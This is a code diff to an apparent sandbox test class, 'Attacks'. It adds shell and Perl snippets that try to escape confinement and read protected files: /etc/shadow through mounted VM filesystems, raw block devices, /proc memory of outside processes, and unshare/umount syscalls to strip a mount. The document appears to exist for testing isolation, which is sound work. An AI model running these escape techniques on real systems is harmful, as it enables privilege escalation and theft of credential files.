@@ -14,8 +14,15 @@ final class Attacks {
   static String onTheDisk(String numbers) {
     return """
     reads() { perl -e 'open D, "<", shift and seek D, 1080, 0 and read D, $m, 2; exit !($m eq "\\x53\\xef")' "$1"; }
+    skip=
+    echo '#through the files of vm, which are mounted in there'
+    while read -r id parent device root at rest; do
+      [ $at != / ] && [ -f $at/etc/shadow ] || continue
+      skip="$skip -o -path $at"
+      { read -r line <$at/etc/shadow; } 2>/dev/null && echo DONE NONCE
+    done </proc/self/mountinfo
     echo '#by reading the device'
-    find / \\( -path /proc -o -path /sys \\) -prune -o -type b -print 2>/dev/null |
+    find / \\( -path /proc -o -path /sys $skip \\) -prune -o -type b -print 2>/dev/null |
       while read -r disk; do reads $disk && echo DONE NONCE; done
     echo '#by making the device anew, with mknod'
     for folder in /tmp /dev /run /orders; do
@@ -26,6 +33,10 @@ final class Attacks {
     done
     echo '#by mounting it'
     mount -t ext4 /dev/vda /mnt && echo DONE NONCE && umount /mnt
+    echo '#through the memory of a process outside (SYS_PTRACE)'
+    for root in /proc/[0-9]*/root; do
+      [ -f $root/etc/shadow ] && { true <>${root%root}mem; } && echo DONE NONCE && break
+    done 2>/dev/null
     true\
     """
         .replace("NUMBERS", numbers.replace(':', ' '));
@@ -42,8 +53,12 @@ final class Attacks {
     chmod 644 $it && { cat $it; chmod ${was#* } $it; }
     echo '#by taking it over (CHOWN)'
     chown 0 $it && { cat $it; chown ${was% *} $it; }
-    echo '#by becoming user 4321 (SETUID)'
-    perl -e '$( = $) = 4321; $< = $> = 4321; open L, "<", "/orders/ledger" and print <L>'
+    perl -e '
+      sub look { open L, "<", "/orders/ledger" and print <L> }
+      print "#by taking off what is mounted over it (SYS_ADMIN)\\n"; $it = "/orders/ledger";
+      syscall(272, 1 << 17) == 0 and syscall(166, $it, 2) == 0 and look; # unshare, umount
+      print "#by becoming user 4321 (SETUID)\\n";
+      $( = $) = 4321; $< = $> = 4321; look'
     FIND | while read -r program; do
       echo "#through $program, which makes a root of everybody"
       $program -e '
@@ -76,7 +91,8 @@ final class Attacks {
         .replace("FIND", PROGRAMS);
   }
 
-  private static final String FILES = "find / \\( -path /proc -o -path /sys \\) -prune -o -type f ";
+  private static final String FILES =
+      "find / \\( -path /proc -o -path /sys $skip \\) -prune -o -type f ";
 
   private static final String SET_USER_ID = FILES + "-perm -4000 -print 2>/dev/null";
 
